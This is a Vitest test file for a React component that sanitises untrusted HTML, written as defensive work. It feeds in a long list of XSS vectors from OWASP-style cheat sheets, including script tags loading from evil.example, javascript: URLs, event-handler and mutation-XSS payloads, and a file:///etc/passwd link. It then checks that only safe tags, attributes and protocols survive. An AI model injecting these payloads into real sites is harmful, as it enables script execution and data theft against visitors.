import { JSDOM } from "jsdom";
import { renderToStaticMarkup, renderToString } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Prose } from "./Prose.tsx";

const labels = { table: "Table" };
const markup = (html: string) => renderToStaticMarkup(<Prose headingLevel={3} html={html} labels={labels} />);
/** Returns the HTML inside the root element, without classes. */
const inside = (html: string) =>
  markup(html)
    .replace(/^<div[^>]*>|<\/div>$/g, "")
    .replaceAll(/ class="[^"]*"/g, "");

/**
 * Attack vectors from the OWASP filter evasion cheat sheet and the HTML5 security cheat sheet, and HTML that mutates
 * when it is parsed twice.
 */
const vectors = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<<SCRIPT>alert(1);//\\<</SCRIPT>`,
  `<script/random>alert(1)</script >`,
  `<SCRIPT/SRC="https://evil.example/xss.js"></SCRIPT>`,
  `"><img src=x onerror=alert(1)>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert(1)>`,
  `<IMG SRC="jav&#x09;ascript:alert(1);">`,
  `<IMG SRC="jav&#x0A;ascript:alert(1);">`,
  `<IMG SRC=" &#14;  javascript:alert(1);">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
  `<IMG SRC=\`javascript:alert("x")\`>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC="data:image/svg+xml;base64,PHN2Zy8+">`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="java\u0000script:alert(1)">x</a>`,
  `<a href="\u0001javascript:alert(1)">x</a>`,
  `<a href="java\tscr\nipt:alert(1)">x</a>`,
  `<a href="&#x6A;avascript&colon;alert(1)">x</a>`,
  `<a href="javascript&#58;alert(1)">x</a>`,
  `<a href="javascript&Tab;:alert(1)">x</a>`,
  `<a href="\u00a0javascript:alert(1)">x</a>`,
  `<a href="\u200bjavascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="blob:https://evil.example/1">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a onmouseover="alert(1)" href="/x">x</a>`,
  `<a href="/x" style="background:url(javascript:alert(1))">x</a>`,
  `<a href="/x" target="_blank" ping="https://evil.example">x</a>`,
  `<a xlink:href="javascript:alert(1)">x</a>`,
  `<b onclick=alert(1) OnFocus=alert(1) tabindex=0 autofocus>x</b>`,
  `<p/onclick=alert(1)>x</p>`,
  `<div style="position:fixed;inset:0">x</div>`,
  `<BODY ONLOAD=alert(1)>`,
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<math href="javascript:alert(1)">x</math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<applet code="x">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>`,
  `<form action="javascript:alert(1)"><input type=submit formaction="javascript:alert(1)"></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<input onfocus=alert(1) autofocus>`,
  `<select onfocus=alert(1)><option>x</select>`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<video><source onerror="alert(1)"></video>`,
  `<video poster=javascript:alert(1)//></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>`,
  `<blockquote cite="javascript:alert(1)">x</blockquote>`,
  `<img srcset="x onerror=alert(1)" src="/ok.jpg">`,
  `<img src="/ok.jpg" usemap="#x"><map name=x><area href="javascript:alert(1)"></map>`,
  `<isindex action="javascript:alert(1)">`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<?xml version="1.0"?><script>alert(1)</script>`,
  `<p title='"><img src=x onerror=alert(1)>'>x</p>`,
  `<abbr title='"><img src=x onerror=alert(1)>'>x</abbr>`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `<x onclick=alert(1)>x</x>`,
  `<__proto__ onclick=alert(1)>x</__proto__><constructor>y</constructor><toString>z</toString>`,
  `<a href="/x" __proto__="x" constructor="y" hasownproperty="z">x</a>`,
  `<img name=getElementById src=/x id=body>`,
  `<slot is="x-evil">x</slot>`,
];

const safeAttributes = new Set([
  "alt",
  "aria-label",
  "class",
  "colspan",
  "datetime",
  "decoding",
  "height",
  "href",
  "loading",
  "rel",
  "role",
  "rowspan",
  "scope",
  "src",
  "start",
  "tabindex",
  "title",
  "width",
]);
const forbidden =
  "script, style, iframe, object, embed, svg, math, link, meta, base, form, input, button, select, textarea, template, noscript, video, audio, applet, frame, map, details, marquee";

describe("untrusted HTML", () => {
  it.each(vectors)("becomes no script and no unsafe link: %s", (vector) => {
    const { document } = new JSDOM(markup(vector)).window;
    expect(document.body.querySelectorAll(forbidden)).toHaveLength(0);
    for (const element of document.body.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(safeAttributes, `attribute ${name}="${value}"`).toContain(name);
      }
      for (const address of [element.getAttribute("href"), element.getAttribute("src")]) {
        if (address === null) continue;
        expect(["http:", "https:", "mailto:", "tel:"]).toContain(
          new URL(address, "https://site.example/news").protocol,
        );
      }
    }
  });
});

/** HTML as written by editors and by people, partly invalid. */
const texts = [
  `<p>One<p>two<p>three`,
  `bare text<br>on two lines`,
  `<div>One</div><div>two <b>bold</b></div>`,
  `<b><p>A paragraph in bold</p></b>`,
  `<a href="/a">one <a href="/b">two</a></a>`,
  `<p><ul><li>a<li>b<ul><li>c</ul></ul>`,
  `<ul>text<p>paragraph</p><li>item</ul>`,
  `<li>lonely</li><td>cell</td>`,
  `<table>text<tr><td>1<td>2<tr><th scope=row>3</table>`,
  `<table><caption>Name</caption><thead><tr><th>a</thead><tbody><tr><td><table><tr><td>inner</table></table>`,
  `<h1>Title</h1><h2>Below<p>in a heading</p></h2>`,
  `<figure><img src="/x.jpg" width="600" height="400"><figcaption>Words <p>more</p></figcaption></figure>`,
  `<pre>\n  code <b>x</b></pre>`,
  `<p>&nbsp;</p><p></p><blockquote></blockquote><ul></ul>`,
  `<blockquote>quoted<p>twice</p></blockquote>`,
  `<dl><dt>Power<dd>40 W</dl><center>middle</center>`,
  `<i><b>crossed</i> tags</b>`,
  `<h5>Five</h5><h6>Six</h6>`,
  ...vectors,
];

it.each(texts)("is parsed by a browser into the tree that React renders: %s", (text) => {
  const html = renderToString(<Prose headingLevel={2} html={text} labels={labels} />);
  const { body } = new JSDOM(`<!doctype html><body>${html}`).window.document;
  expect(body.innerHTML).toBe(
    new JSDOM(`<!doctype html><body>${body.innerHTML}`).window.document.body.innerHTML,
  );
  // React escapes some characters that a browser serialises unescaped.
  const plain = (markup: string) =>
    markup.replaceAll("&#x27;", "'").replaceAll("&quot;", '"').replaceAll("/>", ">");
  expect(plain(body.innerHTML).replaceAll("\u00a0", "&nbsp;")).toBe(
    plain(html).replaceAll("\u00a0", "&nbsp;"),
  );
});

describe("ordinary HTML", () => {
  it("keeps its text, formatting and links", () => {
    expect(inside(`<p>Cuts <strong>20 mm</strong>, see <a href="/materials/wood#kerf">wood</a>.</p>`)).toBe(
      `<p>Cuts <strong>20 mm</strong>, see <a href="/materials/wood#kerf">wood</a>.</p>`,
    );
    expect(inside(`<a href="HTTPS://a.example">out</a>`)).toBe(
      `<p><a href="HTTPS://a.example" rel="noopener noreferrer">out</a></p>`,
    );
    expect(inside(`<a href="//a.example">out</a>`)).toContain('rel="noopener noreferrer"');
    expect(inside(`<a href="mailto:a@example.com">mail</a> <a href="tel:400">call</a>`)).not.toContain(
      "rel=",
    );
    expect(inside(`<a href="?page=2:3">next</a>`)).toContain('href="?page=2:3"');
  });

  it("keeps the text of unknown elements", () => {
    expect(inside(`<font color=red>Red</font> <span>span</span>`)).toBe(`<p>Red span</p>`);
    expect(inside(`<a href="javascript:x">words</a>`)).toBe(`<p>words</p>`);
  });

  it("shifts headings to the page's level", () => {
    expect(inside(`<h2>a</h2><h3>b</h3><h6>c</h6>`)).toBe(`<h3>a</h3><h4>b</h4><h4>c</h4>`);
    expect(inside(`<h1>a</h1>`)).toBe(`<h3>a</h3>`);
  });

  it("loads pictures lazily, in their own size", () => {
    expect(inside(`<img src="/a.jpg" alt="A lamp" width="600" height="400" loading="eager">`)).toBe(
      `<p><img alt="A lamp" decoding="async" height="400" loading="lazy" src="/a.jpg" width="600"/></p>`,
    );
    expect(inside(`<img src="/a.jpg" width="100%">`)).not.toContain("width");
    expect(inside(`<img alt="no file">`)).toBe("");
  });

  it("puts tables into scroll containers", () => {
    expect(inside(`<table><tr><th scope="col">W<td colspan="2">40</table>`)).toBe(
      `<div aria-label="Table" role="group" tabindex="0"><table><tbody><tr><th scope="col">W</th><td colSpan="2">40</td></tr></tbody></table></div>`,
    );
  });

  it("drops empty elements", () => {
    expect(inside(`<p>&nbsp;</p><p><br></p><ul><li></li></ul><blockquote> </blockquote>`)).toBe("");
    expect(inside("")).toBe("");
  });
});

it("limits the nesting depth", () => {
  const deep = 20_000;
  expect(inside(`${"<b>".repeat(deep)}deep`)).toContain("deep");
  expect(inside(`${"<div>".repeat(deep)}deep`)).toContain("deep");
  expect(inside(`${"<ul><li>".repeat(deep)}deep`)).toContain("deep");
});

it.each([
  "<style>p { color: red }</style><p>text</p>",
  "<p>text</p><script>alert(1)</script>",
  "<p>text</p><svg><title>alert(1)</title></svg>",
  "<template><p>p { color: red }</p></template><p>text</p>",
])("prints nothing of what is no text for readers: %s", (html) => {
  expect(inside(html)).toBe("<p>text</p>");
});
